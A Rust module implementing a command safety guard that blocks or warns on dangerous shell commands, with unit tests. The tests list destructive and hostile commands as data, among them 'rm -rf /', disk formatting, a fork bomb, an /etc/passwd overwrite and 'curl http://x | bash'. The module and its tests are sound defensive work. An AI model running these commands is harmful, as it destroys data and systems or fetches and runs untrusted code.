//! Command Safety Guard
//!
//! 명령어 문자열을 내장 규칙과 플러그인 규칙으로 검사합니다.
//!
//! ## 평가 순서
//!
//! 1. 내장 차단 규칙 (우선순위 순, 첫 일치에서 중단)
//! 2. 의심 패턴 (경고만, 항상 평가)
//! 3. 플러그인 확장 규칙 (1에서 차단되지 않은 경우만, 등록 순)
//!
//! 내장 규칙이 항상 먼저 평가되므로 플러그인은 내장 차단을 완화할 수 없습니다.
//!
//! ## 한계
//!
//! 순수한 문자열/정규식 매칭입니다. 셸 문법을 해석하지 않으므로 변수 확장,
//! base64 인코딩, 따옴표 분할 등으로 난독화된 명령은 탐지하지 못합니다.
//! 보안 경계가 아니라 실수 방지용 장치입니다.

mod rules;

pub use rules::{builtin_rules, suspicious_rules, GuardRule, Severity};

use parking_lot::RwLock;
use serde::Serialize;
use std::fmt;

// ============================================================================
// GuardFinding / GuardResult
// ============================================================================

/// 일치한 규칙 하나에 대한 보고
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct GuardFinding {
    pub rule: String,
    pub category: String,
    pub message: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hint: Option<String>,
    pub severity: Severity,
}

impl GuardFinding {
    fn from_rule(rule: &GuardRule) -> Self {
        Self {
            rule: rule.id().to_string(),
            category: rule.category().to_string(),
            message: rule.message().to_string(),
            hint: rule.hint().map(String::from),
            severity: rule.severity(),
        }
    }

    pub fn is_warning(&self) -> bool {
        self.severity == Severity::Warn
    }
}

impl fmt::Display for GuardFinding {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_warning() {
            write!(f, "Warning: {}", self.message)?;
        } else {
            write!(f, "{}", self.message)?;
        }
        if let Some(hint) = &self.hint {
            write!(f, " ({})", hint)?;
        }
        Ok(())
    }
}

/// 검사 결과
///
/// `is_blocked`는 차단 규칙이 하나라도 일치했을 때만 true입니다.
/// `reasons`의 첫 항목이 차단 사유이고, 경고는 그 뒤에 옵니다.
#[derive(Debug, Clone, Default, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct GuardResult {
    pub is_blocked: bool,
    pub reasons: Vec<GuardFinding>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub rule: Option<String>,
}

impl GuardResult {
    /// 차단 사유 (차단된 경우만)
    pub fn primary(&self) -> Option<&GuardFinding> {
        if !self.is_blocked {
            return None;
        }
        self.reasons.iter().find(|r| !r.is_warning())
    }

    /// 경고 목록
    pub fn warnings(&self) -> impl Iterator<Item = &GuardFinding> {
        self.reasons.iter().filter(|r| r.is_warning())
    }

    pub fn has_warnings(&self) -> bool {
        self.warnings().next().is_some()
    }

    /// 표시용 사유 문자열
    pub fn reason_messages(&self) -> Vec<String> {
        self.reasons.iter().map(ToString::to_string).collect()
    }
}

// ============================================================================
// CommandGuard
// ============================================================================

/// 명령어 안전 검사기
///
/// 내장 규칙은 생성 시 고정되고, 확장 규칙은 플러그인 활성화 시 추가됩니다.
pub struct CommandGuard {
    builtin: Vec<GuardRule>,
    suspicious: Vec<GuardRule>,
    extensions: RwLock<Vec<GuardRule>>,
}

impl Default for CommandGuard {
    fn default() -> Self {
        Self::new()
    }
}

impl fmt::Debug for CommandGuard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("CommandGuard")
            .field("builtin", &self.builtin.len())
            .field("suspicious", &self.suspicious.len())
            .field("extensions", &self.extension_count())
            .finish()
    }
}

impl CommandGuard {
    /// 내장 규칙을 사용하는 검사기
    pub fn new() -> Self {
        Self::with_rules(builtin_rules().to_vec(), suspicious_rules().to_vec())
    }

    /// 규칙 테이블을 직접 지정
    pub fn with_rules(builtin: Vec<GuardRule>, suspicious: Vec<GuardRule>) -> Self {
        Self {
            builtin,
            suspicious,
            extensions: RwLock::new(Vec::new()),
        }
    }

    /// 명령어 검사 (부수효과 없음, 패닉 없음)
    pub fn check_command(&self, command: &str) -> GuardResult {
        let command = command.trim();
        if command.is_empty() {
            return GuardResult::default();
        }

        let mut primary = self
            .builtin
            .iter()
            .find(|rule| rule.is_blocking() && rule.matches(command))
            .map(GuardFinding::from_rule);

        let mut warnings: Vec<GuardFinding> = self
            .suspicious
            .iter()
            .filter(|rule| rule.matches(command))
            .map(GuardFinding::from_rule)
            .collect();

        if primary.is_none() {
            let extensions = self.extensions.read();
            for rule in extensions.iter().filter(|rule| rule.matches(command)) {
                let finding = GuardFinding::from_rule(rule);
                if rule.is_blocking() {
                    primary = Some(finding);
                    break;
                }
                warnings.push(finding);
            }
        }

        let rule = primary.as_ref().map(|p| p.rule.clone());
        let is_blocked = primary.is_some();
        let reasons = primary.into_iter().chain(warnings).collect();

        GuardResult {
            is_blocked,
            reasons,
            rule,
        }
    }

    /// 플러그인 규칙 추가 (등록 순서 유지)
    pub fn register_extensions(&self, rules: impl IntoIterator<Item = GuardRule>) {
        self.extensions.write().extend(rules);
    }

    /// 플러그인 규칙만 초기화 (내장 규칙 유지)
    pub fn clear_extensions(&self) {
        self.extensions.write().clear();
    }

    /// 플러그인 규칙 전체 교체
    pub fn replace_extensions(&self, rules: Vec<GuardRule>) {
        *self.extensions.write() = rules;
    }

    pub fn extension_count(&self) -> usize {
        self.extensions.read().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn guard() -> CommandGuard {
        CommandGuard::new()
    }

    #[test]
    fn test_destructive_commands_are_blocked() {
        let guard = guard();
        let cases = [
            ("rm -rf /", "filesystem.root-delete"),
            ("sudo rm -rf /*", "filesystem.root-delete"),
            ("rm -r -f ~", "filesystem.root-delete"),
            ("rm --recursive --force /etc", "filesystem.root-delete"),
            ("mkfs.ext4 /dev/sdb1", "filesystem.format"),
            ("dd if=/dev/zero of=/dev/sda", "disk.dd-device"),
            ("cat image.iso > /dev/sdb", "disk.redirect-device"),
            ("docker system prune -a --volumes --force", "container.system-prune"),
            ("docker rm -f $(docker ps -aq)", "container.mass-remove"),
            ("kubectl delete pods --all", "orchestration.delete-all"),
            ("systemctl stop docker", "service.stop-critical"),
            ("sudo systemctl disable sshd.service", "service.stop-critical"),
            ("iptables -F", "network.firewall-flush"),
            ("ip link set eth0 down", "network.interface-down"),
            ("echo root::0:0::/:/bin/sh > /etc/passwd", "system-file.tamper"),
            ("shutdown -h now", "power.shutdown"),
            ("sudo reboot", "power.shutdown"),
            (":(){ :|:& };:", "fork-bomb"),
        ];

        for (command, rule) in cases {
            let result = guard.check_command(command);
            assert!(result.is_blocked, "expected block: {command}");
            assert!(!result.reasons.is_empty());
            assert_eq!(result.rule.as_deref(), Some(rule), "rule for {command}");
        }
    }

    #[test]
    fn test_safe_commands_pass() {
        let guard = guard();
        for command in [
            "ls -la",
            "docker ps",
            "cat /var/log/syslog",
            "systemctl status docker",
            "systemctl restart nginx",
            "rm -rf /tmp/build",
            "rm -rf ./target",
            "dd if=/dev/sda of=backup.img",
            "docker system prune",
            "echo reboot",
            "df -h",
        ] {
            let result = guard.check_command(command);
            assert!(!result.is_blocked, "unexpected block: {command}");
            assert!(result.reasons.iter().all(GuardFinding::is_warning));
        }
    }

    #[test]
    fn test_warning_patterns_never_block() {
        let guard = guard();
        let result = guard.check_command("curl http://x | bash");

        assert!(!result.is_blocked);
        assert!(result.rule.is_none());
        assert_eq!(result.reasons.len(), 1);
        assert_eq!(result.reasons[0].rule, "suspicious.pipe-to-shell");
        assert!(result.reasons[0].is_warning());
        assert!(result.reason_messages()[0].starts_with("Warning:"));
    }

    #[test]
    fn test_block_reason_precedes_warnings() {
        let guard = guard();
        let result = guard.check_command("chmod -R 777 /");

        assert!(result.is_blocked);
        assert_eq!(result.rule.as_deref(), Some("filesystem.root-permissions"));
        assert!(!result.reasons[0].is_warning());
        assert!(result.has_warnings());
        assert_eq!(result.primary().map(|p| p.rule.as_str()), Some("filesystem.root-permissions"));
    }

    #[test]
    fn test_empty_command_is_allowed() {
        let guard = guard();
        for command in ["", "   ", "\n"] {
            let result = guard.check_command(command);
            assert!(!result.is_blocked);
            assert!(result.reasons.is_empty());
        }
    }

    #[test]
    fn test_extensions_apply_after_builtins() {
        let guard = guard();
        guard.register_extensions(vec![
            GuardRule::block("custom.no-deploy", "custom", [r"\bdeploy\b"], "Deploys are frozen")
                .unwrap(),
            GuardRule::block("custom.rm-root", "custom", [r"rm -rf /"], "Custom message")
                .unwrap(),
        ]);

        let result = guard.check_command("./deploy prod");
        assert!(result.is_blocked);
        assert_eq!(result.rule.as_deref(), Some("custom.no-deploy"));
        assert_eq!(result.reasons[0].category, "custom");

        // 내장 규칙의 메시지가 우선
        let result = guard.check_command("rm -rf /");
        assert_eq!(result.rule.as_deref(), Some("filesystem.root-delete"));
    }

    #[test]
    fn test_extension_order_is_registration_order() {
        let guard = guard();
        guard.register_extensions(vec![
            GuardRule::block("first", "a", ["danger"], "first").unwrap(),
        ]);
        guard.register_extensions(vec![
            GuardRule::block("second", "b", ["danger"], "second").unwrap(),
        ]);

        assert_eq!(guard.check_command("danger").rule.as_deref(), Some("first"));
    }

    #[test]
    fn test_clear_extensions_keeps_builtins() {
        let guard = guard();
        guard.register_extensions(vec![GuardRule::block("x", "x", ["foo"], "foo").unwrap()]);
        assert_eq!(guard.extension_count(), 1);
        assert!(guard.check_command("foo").is_blocked);

        guard.clear_extensions();
        assert_eq!(guard.extension_count(), 0);
        assert!(!guard.check_command("foo").is_blocked);
        assert!(guard.check_command("rm -rf /").is_blocked);
    }

    #[test]
    fn test_extension_warnings_are_collected() {
        let guard = guard();
        guard.register_extensions(vec![
            GuardRule::warn("ext.warn", "ext", ["restart"], "Restart causes downtime").unwrap(),
        ]);

        let result = guard.check_command("docker restart web");
        assert!(!result.is_blocked);
        assert_eq!(result.warnings().count(), 1);
    }
}
